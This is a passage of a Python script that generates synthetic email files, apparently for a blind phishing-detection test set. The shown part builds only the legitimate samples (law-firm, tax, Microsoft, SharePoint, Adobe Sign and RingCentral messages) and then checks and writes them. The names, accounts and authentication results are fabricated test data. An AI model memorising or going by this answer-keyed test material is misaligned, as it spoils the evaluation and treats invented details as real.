    quote = {"when": "Tue, Sep 2, 2025 at 4:52 PM", "from": "Dana Whitcomb <dana@whitcomblaw.com>",
             "paras": ["Hi Ellen,", "", "It was good to meet you today. Attached is the engagement agreement we discussed. Please "
                       "sign and return it, and you can pay the initial $2,500 through the secure payment link in the letter "
                       "or by check at our next meeting.", "", "Best,", "Dana"]}
    paras = ["Hi Dana,", "", "Signed copy attached. I'll pay the $2,500 tomorrow through the payment link. Should I bring the "
             "deed for the house and the old will to our next meeting, or can I scan those too?", "", "Thanks again,", "Ellen"]
    return gmail_mail(seed, rcv="gmail", rcpt=rcpt, sender=("Ellen Foster", "ellen.foster.pdx@gmail.com"),
                      to="Dana Whitcomb <dana@whitcomblaw.com>", subject="Re: Engagement letter - Foster estate plan",
                      sent=sent, paras=paras, attachments=[att], quote=quote,
                      in_reply_to=f"<CA{tok(seed + 'irt', 40, URLSAFE)}@mail.gmail.com>")


@sample("legit-tax-client-documents", "clean",
        "A returning tax client sends her preparer the W-2 and mortgage interest statement PDFs from Outlook.com ahead of "
        "her booked appointment.")
def l18() -> bytes:
    seed = "l18"
    sent = when("2025-02-12 19:27:10 -0600")
    rcpt = "office@moralestax.com"
    w2 = pdf_att("W2_2024_HEB.pdf", ["Form W-2 Wage and Tax Statement 2024", "Employer: H-E-B, LP, San Antonio TX",
                                     "Employee: Marisol Garza", "Box 1 Wages: 48,212.55   Box 2 Federal tax withheld: 4,118.20"],
                 title="W2_2024")
    f1098 = pdf_att("1098_Mortgage_Interest_2024.pdf", ["Form 1098 Mortgage Interest Statement 2024",
                                                        "Lender: Frost Bank", "Borrower: Marisol Garza",
                                                        "Box 1 Mortgage interest received: 9,871.34"], title="1098_2024")
    paras = ["Hi Mrs. Morales,", "", "Here are my W-2 and the 1098 from Frost for this year. I still have my appointment on "
             "Thursday the 20th at 5:30, I'll bring the daycare receipts and my ID then.", "",
             "Same bank account as last year for the refund.", "", "Thank you!", "Marisol Garza", "(210) 555-0197"]
    return outlook_mail(seed, rcv=TAXPREP_MX, rcpt=rcpt, sender=("Marisol Garza", "marisol.garza82@outlook.com"),
                        to="office@moralestax.com", subject="Taxes 2024 - W2 and 1098", sent=sent, paras=paras,
                        attachments=[w2, f1098], sign_domain="outlook.com")


@sample("legit-opposing-counsel-redline", "clean",
        "Opposing counsel replies in an existing thread with a redlined settlement agreement as a Word attachment and "
        "proposes a call, from her firm's Microsoft 365.")
def l19() -> bytes:
    seed = "l19"
    sent = when("2025-03-12 17:46:03 -0400")
    rcpt = "tharlow@harlowbeckett.com"
    doc = F.docx(["SETTLEMENT AGREEMENT AND MUTUAL RELEASE", "Sean Brennan and Castlegate Properties LLC",
                  "1. Settlement Payment. Castlegate shall pay $185,000 within thirty (30) days of the Effective Date.",
                  "2. Release. [CL comment: scope limited to claims arising from the 2023 lease]",
                  "3. Confidentiality. [CL comment: carve-out for tax advisors added]"],
                 "Settlement Agreement - Brennan - CL redline", "Rebecca Castellano")
    att = attachment("application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                     "Settlement Agreement - Brennan - CL redline 3-12.docx", doc)
    quote = {"from": "Thomas Harlow <tharlow@harlowbeckett.com>", "sent": "Monday, March 10, 2025 11:02 AM",
             "to": "Rebecca Castellano <rcastellano@castellanolaw.com>", "subject": "Brennan / Castlegate - draft settlement agreement",
             "paras": ["Rebecca,", "", "Attached is our draft of the settlement agreement reflecting the terms agreed at mediation. "
                       "Please send any comments in redline.", "", "Tom"]}
    paras = ["Tom,", "", "Our comments are in the attached redline. The main open points are the scope of the release (we "
             "need it limited to the 2023 lease) and the confidentiality carve-out for tax advisors. Everything else looks fine.",
             "", "Are you free for a short call Thursday afternoon to close these out? 2:00 or 3:30 works on my end.", "",
             "Best,", "Rebecca"]
    sig = ["", "Rebecca Castellano", "Castellano Law Group, P.C.", "One Financial Center, 15th Floor | Boston, MA 02111",
           "(617) 555-0163",
           '<span style="font-size:8.0pt;color:gray">This message may contain confidential and privileged information. If you '
           'are not the intended recipient, please notify the sender and delete it.</span>']
    return outlook_mail(seed, rcv="m365", rcpt=rcpt, sender=("Rebecca Castellano", "rcastellano@castellanolaw.com"),
                        to="Thomas Harlow <tharlow@harlowbeckett.com>", subject="RE: Brennan / Castlegate - draft settlement agreement",
                        sent=sent, paras=paras, attachments=[att], quote=quote, signature=sig, policy_="quarantine",
                        in_reply_to=f"<{tok(seed + 'irt', 28, UPALNUM)}@BL1PR17MB6120.namprd17.prod.outlook.com>")


@sample("legit-microsoft-account-alert-fr", "bulk",
        "Genuine French-language Microsoft account 'unusual sign-in activity' alert to a Quebec client's Outlook.com "
        "address, from accountprotection.microsoft.com with Microsoft's own links.")
def l20() -> bytes:
    seed = "l20"
    sent = when("2025-10-06 13:22:47 +0000")
    rcpt = "marc.tremblay@outlook.fr"
    auth = microsoft_platform_auth(seed, "account-security-noreply@accountprotection.microsoft.com",
                                   "accountprotection.microsoft.com")
    auth.dkim = [("accountprotection.microsoft.com", "s1024-meo", "pass")]
    review = "https://account.live.com/Activity"
    html_body = ('<html dir="ltr"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>\n'
                 '<body style="font-family:\'Segoe UI\',Tahoma,sans-serif;font-size:14px;color:#2a2a2a;">\n'
                 '<table dir="ltr"><tr><td style="font-size:17px;color:#707070;">Compte Microsoft</td></tr>\n'
                 '<tr><td style="font-size:41px;color:#2672ec;">Activité de connexion inhabituelle</td></tr>\n'
                 '<tr><td style="padding-top:25px;">Nous avons détecté une activité de connexion inhabituelle pour le compte '
                 'Microsoft <a dir="ltr" style="color:#2672ec;text-decoration:none;" href="mailto:ma*****@outlook.fr">ma*****@outlook.fr</a>.</td></tr>\n'
                 '<tr><td style="padding-top:25px;"><table><tr><td><b>Pays/région :</b> Canada</td></tr>'
                 '<tr><td><b>Adresse IP :</b> 24.202.118.44</td></tr><tr><td><b>Date :</b> 2025-10-06 09:21 (HAE)</td></tr>'
                 '<tr><td><b>Plateforme :</b> iOS</td></tr><tr><td><b>Navigateur :</b> Outlook</td></tr></table></td></tr>\n'
                 '<tr><td style="padding-top:25px;">Veuillez consulter votre activité récente. Nous vous aiderons à sécuriser votre '
                 'compte si ce n\'était pas vous. Si c\'était vous, vous pouvez ignorer ce message.</td></tr>\n'
                 f'<tr><td style="padding-top:25px;"><a href="{review}" style="background-color:#2672ec;color:#fff;'
                 'padding:5px 20px;text-decoration:none;">Consulter l\'activité récente</a></td></tr>\n'
                 '<tr><td style="padding-top:25px;">Pour refuser ou choisir l\'emplacement où vous recevez les notifications de '
                 f'sécurité, <a href="https://account.live.com/SecurityNotifications/Update" style="color:#2672ec;">cliquez ici</a>.</td></tr>\n'
                 '<tr><td style="padding-top:25px;">Merci,<br>L\'équipe des comptes Microsoft</td></tr></table>\n'
                 '<p style="font-size:12px;color:#707070;"><a href="https://go.microsoft.com/fwlink/?LinkId=521839" '
                 'style="color:#707070;">Déclaration de confidentialité</a><br>Microsoft Corporation, One Microsoft Way, Redmond, '
                 'WA 98052</p>\n</body></html>\n')
    plain = ("Compte Microsoft\n\nActivité de connexion inhabituelle\n\nNous avons détecté une activité de connexion inhabituelle "
             "pour le compte Microsoft ma*****@outlook.fr.\n\nPays/région : Canada\nAdresse IP : 24.202.118.44\nDate : "
             "2025-10-06 09:21 (HAE)\nPlateforme : iOS\nNavigateur : Outlook\n\nVeuillez consulter votre activité récente : "
             f"{review}\n\nMerci,\nL'équipe des comptes Microsoft\n")
    body = alt(plain, html_body, f"--boundary_{tok(seed + 'bd', 5, DIGITS)}_{guid(seed + 'bg')}")
    headers = ["From: " + addr("Équipe des comptes Microsoft", "account-security-noreply@accountprotection.microsoft.com"),
               f"To: {rcpt}", "Subject: " + enc("Activité de connexion inhabituelle sur le compte Microsoft"),
               f"Date: {rfc(utc(sent))}", f"Message-ID: <{tok(seed + 'mid', 5, UPALNUM)}{tok(seed + 'mid2', 10, DIGITS)}"
               f"{tok(seed + 'm3', 10, UPALNUM)}@BN1AFFO11FD{tok(seed + 'm4', 3, DIGITS)}.protection.gbl>",
               "X-MSAPipeline: EmailDispatcherV2", "X-MSAMetaData: " + tok(seed + "meta", 60, URLSAFE)]
    return assemble(seed, rcv="outlookcom", rcpt=rcpt, auth=auth, sent=sent, headers=headers, body=body,
                    hops=[m365_out_hop(seed, sent)], sign=[("accountprotection.microsoft.com", "s1024-meo")])


@sample("legit-groupsio-practitioner-list", "bulk",
        "Genuine groups.io practitioners' mailing-list post among Ontario real-estate lawyers about private mortgage "
        "discharges and a reported fraud attempt, with list headers and a footer.")
def l21() -> bytes:
    seed = "l21"
    sent = when("2025-02-20 12:38:19 -0500")
    rcpt = "c.okafor@okaforlindqvist.ca"
    ip = f"66.175.222.{int(tok(seed, 2, DIGITS)) + 100}"
    helo = "mail02.groups.io"
    mf = "bounce+" + tok(seed + "b", 6, HEX) + "+" + tok(seed + "b2", 6, DIGITS) + "+" + tok(seed + "b3", 7, DIGITS) + "+" + \
         tok(seed + "b4", 8, DIGITS) + "@groups.io"
    auth = Auth(mf, ip, helo, helo, "pass", [("groups.io", "20240206", "pass")], "pass", "groups.io", "none")
    plain = (
        "Colleagues,\n\n"
        "Has anyone else been waiting more than a week for a private lender to register a discharge after closing? "
        "We paid out a private second on Feb 7 and the lender's lawyer now says their client is \"travelling\". Any "
        "suggestions short of a court application?\n\n"
        "Also a heads-up: on a file closing yesterday we received an email that looked like it came from the vendor's "
        "lawyer asking us to send the balance due on closing to a different trust account. The domain was off by one letter. "
        "We called the lawyer's office at the number on the LSO directory and confirmed it was fraudulent. Please remind your "
        "clerks to verify any change by phone.\n\n"
        "Amara Mensah\nMensah Real Estate Law, Mississauga\n\n"
        "-=-=-=-=-=-=-=-=-=-=-=-\n"
        "Groups.io Links: You receive all messages sent to this group.\n"
        f"View/Reply Online (#{tok(seed + 'n', 4, DIGITS)}): https://groups.io/g/ontario-relaw/message/{tok(seed + 'n', 4, DIGITS)}\n"
        "Mute This Topic: https://groups.io/mt/" + tok(seed + "mt", 9, DIGITS) + "/" + tok(seed + "mt2", 7, DIGITS) + "\n"
        "Group Owner: ontario-relaw+owner@groups.io\n"
        f"Unsubscribe: https://groups.io/g/ontario-relaw/leave/{tok(seed + 'lv', 8, DIGITS)}/{tok(seed + 'lv2', 7, DIGITS)}/"
        f"{tok(seed + 'lv3', 9, DIGITS)}/xyzzy [c.okafor@okaforlindqvist.ca]\n"
        "-=-=-=-=-=-=-=-=-=-=-=-\n")
    body = text(plain, "plain", "quoted-printable", "utf-8")
    headers = [f"Date: {rfc(sent)}", "From: \"Amara Mensah via groups.io\" <amensah=mensahlaw.ca@groups.io>",
               "Reply-To: ontario-relaw@groups.io", "To: ontario-relaw@groups.io",
               "Subject: [ontario-relaw] Slow private mortgage discharges + fraud attempt on closing",
               f"Message-ID: <{tok(seed + 'mid', 8, DIGITS)}.{tok(seed + 'm2', 5, DIGITS)}.{int(sent.timestamp())}{tok(seed + 'm3', 3, DIGITS)}@groups.io>",
               "Sender: ontario-relaw@groups.io", "Precedence: Bulk", "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
               f"List-Unsubscribe: <https://groups.io/g/ontario-relaw/leave/{tok(seed + 'lv', 8, DIGITS)}/{tok(seed + 'lv2', 7, DIGITS)}/"
               f"{tok(seed + 'lv3', 9, DIGITS)}/xyzzy>",
               "List-Id: <ontario-relaw.groups.io>", "Mailing-List: list ontario-relaw@groups.io; contact ontario-relaw+owner@groups.io",
               "List-Post: <mailto:ontario-relaw@groups.io>", "List-Owner: <mailto:ontario-relaw+owner@groups.io>",
               "List-Subscribe: <mailto:ontario-relaw+subscribe@groups.io>", "List-Help: <mailto:ontario-relaw+help@groups.io>",
               "X-Original-From: Amara Mensah <amensah@mensahlaw.ca>", "Delivered-To: mailing list ontario-relaw@groups.io"]
    return assemble(seed, rcv=CALAW_MX, rcpt=rcpt, auth=auth, sent=sent, headers=headers, body=body,
                    sign=[("groups.io", "20240206")])


@sample("legit-sharepoint-cocounsel-folder", "bulk",
        "Genuine SharePoint Online sharing notification from co-counsel's Microsoft 365 tenant sharing a folder of expert "
        "reports with a partner, linking to co-counsel's own sharepoint.com site.")
def l22() -> bytes:
    seed = "l22"
    sent = when("2025-04-02 16:09:44 -0400")
    rcpt = "tharlow@harlowbeckett.com"
    auth = microsoft_platform_auth(seed, "no-reply@sharepointonline.com", "sharepointonline.com")
    link = (f"https://ramanvance.sharepoint.com/:f:/s/Litigation/E{tok(seed + 'sp', 42, URLSAFE)}?e={tok(seed + 'e', 6, URLSAFE)}")
    inner = (row('<p style="font-size:21px;color:#242424;">Priya Raman shared a folder with you</p>', "28px 32px 0") +
             row('<table cellpadding="0" cellspacing="0" style="border-left:4px solid #0f6cbd;"><tr><td style="padding:6px 12px;'
                 'font-size:15px;color:#424242;">Tom - final expert reports and CVs for the Brennan disclosures, due Friday. '
                 'Let me know if you have trouble opening anything.</td></tr></table>', "8px 32px") +
             row(f'<table cellpadding="12" style="border:1px solid #e0e0e0;width:100%;"><tr><td><img src="https://res.cdn.office.net/files/'
                 f'fabric-cdn-prod_20240925.001/assets/item-types/48/folder.png" width="32" alt=""></td><td><a href="{link}" '
                 'style="color:#242424;font-weight:600;text-decoration:none;">Brennan - Expert Reports</a></td></tr></table>') +
             row(button(link, "Open", "#0f6cbd")) +
             row('<p style="font-size:12px;color:#616161;">This link only works for the direct recipients of this message.</p>'
                 '<p style="font-size:12px;color:#616161;"><a href="https://go.microsoft.com/fwlink/?LinkId=521839" '
                 'style="color:#616161;">Privacy Statement</a></p>'
                 '<p style="font-size:11px;color:#616161;">This email is generated through Raman Vance LLP\'s use of Microsoft 365 '
                 'and may contain content that is controlled by Raman Vance LLP.</p>'
                 '<p style="font-size:11px;color:#616161;">Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p>', "16px 32px 28px"))
    plain = ("Priya Raman shared a folder with you\n\nTom - final expert reports and CVs for the Brennan disclosures, due Friday.\n\n"
             f"Brennan - Expert Reports\n{link}\n\nThis link only works for the direct recipients of this message.\n\n"
             "Microsoft Corporation, One Microsoft Way, Redmond, WA 98052\n")
    body = alt(plain, web_page(inner, bg="#ffffff", font="'Segoe UI',Tahoma,sans-serif"), f"_000_{tok(seed + 'b', 40, UPALNUM)}_")
    headers = ["From: Priya Raman <no-reply@sharepointonline.com>", f"To: {rcpt}",
               "Subject: Priya Raman shared the folder \"Brennan - Expert Reports\" with you", f"Date: {rfc(utc(sent))}",
               f"Message-ID: <{guid(seed + 'mid')}@odspnotify>", "Reply-To: Priya Raman <praman@ramanvance.com>",
               "X-MS-Has-Attach:", "X-MS-TNEF-Correlator:"]
    return assemble(seed, rcv="m365", rcpt=rcpt, auth=auth, sent=sent, headers=headers, body=body,
                    hops=[m365_out_hop(seed, sent)], sign=[("sharepointonline.com", "selector1")])


@sample("legit-uk-completion-statement", "clean",
        "Genuine email from a UK conveyancer to her buyer client with the completion statement PDF, asking for the balance "
        "and telling her to confirm the firm's bank details by phone because they will never change by email.")
def l23() -> bytes:
    seed = "l23"
    sent = when("2025-05-20 16:02:31 +0100")
    rcpt = "sophie.draycott@gmail.com"
    att = pdf_att("Completion Statement - 14 Plumtree Close.pdf", [
        "ASHBY FENWICK SOLICITORS - COMPLETION STATEMENT",
        "Client: Sophie Draycott    Ref: AF/CON/25/1147",
        "Property: 14 Plumtree Close, Harrogate HG2",
        "",
        "Purchase price                               325,000.00",
        "Less deposit paid on exchange                 32,500.00",
        "Less mortgage advance                        146,250.00",
        "Stamp Duty Land Tax                            1,750.00",
        "Our fees and disbursements (incl. VAT)         1,260.00",
        "Balance required from you                    149,260.00",
        "",
        "Bank details are as stated in our client care letter. We will never change them by email.",
    ], title="Completion Statement AF-CON-25-1147")
    paras = [
        "Dear Sophie,", "",
        "I attach the completion statement for your purchase of 14 Plumtree Close. Completion remains fixed for Friday 30 May.",
        "", "The balance required from you is &pound;149,260.00, which we need to receive in cleared funds by Wednesday 28 May.",
        "",
        "<b>Please send the funds only to the client account shown in our client care letter, and before you do so please "
        "telephone our office on 0113 496 0721 to confirm the details with me.</b> Our bank details will not change during your "
        "transaction and we will never ask you to send money to a different account by email. If you receive any email "
        "appearing to come from us with different details, please call us straight away.", "",
        "Kind regards", "",
    ]
    sig = ["Hannah Whitley", "Senior Conveyancer", "Ashby Fenwick Solicitors",
           "Park Row House, 19 Park Row, Leeds LS1 5JF | 0113 496 0721",
           '<span style="font-size:8.0pt;color:gray">Ashby Fenwick Solicitors is authorised and regulated by the Solicitors '
           'Regulation Authority (SRA No. 612284).</span>']
    return outlook_mail(seed, rcv="gmail", rcpt=rcpt, sender=("Hannah Whitley", "hannah.whitley@ashbyfenwick.co.uk"),
                        to="Sophie Draycott <sophie.draycott@gmail.com>",
                        subject="14 Plumtree Close - completion statement [AF/CON/25/1147]", sent=sent, paras=paras,
                        attachments=[att], signature=sig, region="eurprd", lang="en-GB", policy_="quarantine")


@sample("legit-adobe-sign-completed-aps", "bulk",
        "Genuine Adobe Acrobat Sign 'agreement completed' email to a Toronto real-estate law firm with the signed Agreement "
        "of Purchase and Sale attached as a PDF.")
def l24() -> bytes:
    seed = "l24"
    sent = when("2025-06-18 14:41:26 -0400")
    rcpt = "reception@okaforlindqvist.ca"
    ip = f"130.248.{int(tok(seed, 2, DIGITS)) % 20 + 150}.{int(tok(seed + 'i', 2, DIGITS)) + 10}"
    helo = f"mail-ca1.echosign.com"
    auth = Auth("adobesign@adobesign.com", ip, helo, helo, "pass", [("adobesign.com", "adbe-sign-ca1", "pass")], "pass",
                "adobesign.com", "reject")
    att = pdf_att("Agreement of Purchase and Sale - 88 Birchmount Rd - signed.pdf", [
        "OREA Form 100 - Agreement of Purchase and Sale",
        "Property: 88 Birchmount Rd, Scarborough, ON M1N 3J5",
        "Buyer: Daniel & Grace Achterberg    Seller: Ruth Kwan",
        "Purchase price: $1,185,000.00    Completion: August 29, 2025",
        "",
        "Signed electronically by all parties via Adobe Acrobat Sign. Transaction ID: CBJCHBCAABAA" + tok(seed + "tx", 20, UPALNUM),
    ], title="Agreement of Purchase and Sale - 88 Birchmount Rd")
    html_body = ('<html><body style="font-family:adobe-clean,Helvetica,Arial,sans-serif;font-size:14px;color:#2c2c2c;">\n'
                 '<table width="600" cellpadding="0" cellspacing="0"><tr><td style="padding:20px 0;"><b>Adobe Acrobat Sign</b></td></tr>\n'
                 '<tr><td style="font-size:22px;padding-bottom:12px;">Agreement of Purchase and Sale - 88 Birchmount Rd is '
                 'complete</td></tr>\n<tr><td>All parties have finished signing. A PDF copy of the signed agreement is attached '
                 'to this email. Sent by Nadia Ferreira (TCG Realty Group, Brokerage) and filed by cc to Okafor Lindqvist LLP.'
                 '</td></tr>\n<tr><td style="padding-top:16px;"><a href="https://secure.ca1.adobesign.com/public/agreements/view/'
                 + tok(seed + "ag", 32, HEX) + '" style="color:#1473e6;">Open agreement</a></td></tr>\n'
                 '<tr><td style="padding-top:24px;font-size:11px;color:#6e6e6e;">To ensure that you continue receiving our emails, '
                 'please add adobesign@adobesign.com to your address book or safe list.<br>&copy; 2025 Adobe. All rights reserved. '
                 'Adobe Inc., 345 Park Avenue, San Jose, CA 95110-2704</td></tr></table>\n</body></html>\n')
    plain = ("Agreement of Purchase and Sale - 88 Birchmount Rd is complete\n\nAll parties have finished signing. A PDF copy of the "
             "signed agreement is attached to this email.\n\n(c) 2025 Adobe. All rights reserved.\n")
    boundary = f"----=_Part_{tok(seed + 'p', 7, DIGITS)}_{tok(seed + 'p2', 9, DIGITS)}.{int(sent.timestamp())}{tok(seed + 'p3', 3, DIGITS)}"
    body = mixed(boundary, [alt(plain, html_body, boundary.replace("Part_", "Part_1_")), att])
    headers = [f"Date: {rfc(utc(sent))}", "From: Adobe Acrobat Sign <adobesign@adobesign.com>",
               "Reply-To: Nadia Ferreira <nferreira@tcgrealtygroup.ca>", f"To: {rcpt}",
               "Subject: Agreement of Purchase and Sale - 88 Birchmount Rd between TCG Realty Group and Okafor\n"
               " Lindqvist LLP is Signed and Filed!",
               f"Message-ID: <{tok(seed + 'mid', 10, DIGITS)}.{tok(seed + 'm2', 7, DIGITS)}.{int(sent.timestamp())}{tok(seed + 'm3', 3, DIGITS)}@ca1.echosign.com>"]
    return assemble(seed, rcv=CALAW_MX, rcpt=rcpt, auth=auth, sent=sent, headers=headers, body=body,
                    sign=[("adobesign.com", "adbe-sign-ca1")])


def mp3_stub(seconds: int) -> bytes:
    """ID3v2 header plus silent MPEG-1 Layer III frames (128 kbps, 44.1 kHz)."""
    id3 = b"ID3\x04\x00\x00\x00\x00\x00\x0a" + b"TSSE\x00\x00\x00\x00\x00\x00"
    frame = b"\xff\xfb\x90\x64" + b"\x00" * 413
    return id3 + frame * (seconds * 38 // 8)


@sample("legit-ringcentral-voicemail-mp3", "bulk",
        "Genuine RingCentral voicemail notification to a CPA with the message attached as an MP3 file and a link to the "
        "RingCentral app, sent from RingCentral's own domain.")
def l25() -> bytes:
    seed = "l25"
    sent = when("2025-03-03 10:15:38 -0500")
    rcpt = "t.wynn@kesslerwynncpa.com"
    ip = f"199.255.{int(tok(seed, 2, DIGITS)) % 4 + 120}.{int(tok(seed + 'i', 2, DIGITS)) + 10}"
    helo = f"smtp{tok(seed + 'h', 2, DIGITS)}.ringcentral.com"
    auth = Auth("service@ringcentral.com", ip, helo, helo, "pass", [("ringcentral.com", "rc2023", "pass")], "pass",
                "ringcentral.com", "reject")
    mp3 = attachment("audio/mpeg", "Voice Message-0303-1014.mp3", mp3_stub(38))
    html_body = ('<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#333;">\n'
                 '<p><b>You have a new voice message</b></p>\n<table cellpadding="3">'
                 '<tr><td>From:</td><td>WIRELESS CALLER (614) 555-0182</td></tr>'
                 '<tr><td>To:</td><td>Tom Wynn, Ext. 104</td></tr>'
                 '<tr><td>Received:</td><td>Monday, March 3, 2025 at 10:14 AM</td></tr>'
                 '<tr><td>Length:</td><td>00:38</td></tr></table>\n'
                 '<p>The voice message is attached to this email.</p>\n'
                 '<p><a href="https://app.ringcentral.com/messages/voicemail">Open in RingCentral app</a></p>\n'
                 '<p style="font-size:11px;color:#888;">To change notification settings, sign in to the RingCentral app. '
                 '&copy; 1999-2025 RingCentral, Inc. All rights reserved. 225 Shoreline Dr, Belmont, CA 94002</p>\n</body></html>\n')
    plain = ("You have a new voice message\n\nFrom: WIRELESS CALLER (614) 555-0182\nTo: Tom Wynn, Ext. 104\nReceived: Monday, March 3, "
             "2025 at 10:14 AM\nLength: 00:38\n\nThe voice message is attached to this email.\n\nOpen in RingCentral app: "
             "https://app.ringcentral.com/messages/voicemail\n")
    boundary = f"----=_Part_{tok(seed + 'p', 7, DIGITS)}_{tok(seed + 'p2', 9, DIGITS)}.{int(sent.timestamp())}{tok(seed + 'p3', 3, DIGITS)}"
    body = mixed(boundary, [alt(plain, html_body, boundary.replace("Part_", "Part_1_")), mp3])
    headers = [f"Date: {rfc(sent)}", "From: RingCentral <service@ringcentral.com>", f"To: Tom Wynn <{rcpt}>",
               "Subject: New Voice Message from WIRELESS CALLER (614) 555-0182 on Monday, March 3, 2025 at 10:14 AM",
               f"Message-ID: <{tok(seed + 'mid', 10, DIGITS)}.{tok(seed + 'm2', 6, DIGITS)}.{int(sent.timestamp())}{tok(seed + 'm3', 3, DIGITS)}@{helo}>"]
    return assemble(seed, rcv="m365", rcpt=rcpt, auth=auth, sent=sent, headers=headers, body=body,
                    sign=[("ringcentral.com", "rc2023")])


# --------------------------------------------------------------------------------------------------------------
# writing and checking
# --------------------------------------------------------------------------------------------------------------

REQUIRED = ("from", "to", "subject", "date", "message-id")


def check(stem: str, data: bytes) -> None:
    for number, line in enumerate(data.split(b"\n"), 1):
        assert len(line) < 990, f"{stem}: line {number} is {len(line)} bytes"
    head = data.split(b"\n\n", 1)[0]
    try:
        head.decode("ascii")
    except UnicodeDecodeError as exc:
        raise AssertionError(f"{stem}: non-ASCII byte in the header block") from exc
    msg = BytesParser(policy=policy.default).parsebytes(data)
    assert not msg.defects, f"{stem}: {msg.defects}"
    for name in REQUIRED:
        assert msg[name], f"{stem}: missing {name}"
    for part in msg.walk():
        assert not part.defects, f"{stem}: part defects {part.defects}"
        if part.get_content_maintype() == "text":
            content = part.get_content()
            assert isinstance(content, str) and content.strip(), f"{stem}: empty or undecodable text part"
        elif not part.is_multipart():
            payload = part.get_payload(decode=True)
            assert payload, f"{stem}: empty attachment"


def main() -> None:
    for old in MAIL.glob(f"*/b{N}-*.eml"):
        old.unlink()
    stems = set()
    lines = []
    counts: dict[str, int] = {}
    for stem, folder, description, build in MESSAGES:
        assert stem not in stems, stem
        stems.add(stem)
        folder = REFILED.get(stem, folder)
        data = build()
        check(stem, data)
        path = MAIL / folder / f"{stem}.eml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        lines.append(f"samples/mail/{folder}/{stem}.eml | {folder} | {description}")
        counts[folder] = counts.get(folder, 0) + 1
    MANIFEST.write_text("\n".join(lines) + "\n")
    attacks = sum(1 for s, *_ in MESSAGES if "-phish-" in s)
    legit = sum(1 for s, *_ in MESSAGES if "-legit-" in s)
    print(f"blind{N}: {len(MESSAGES)} messages ({attacks} attacks, {legit} legitimate): "
          + ", ".join(f"{k}={v}" for k, v in sorted(counts.items())))


if __name__ == "__main__":
    main()
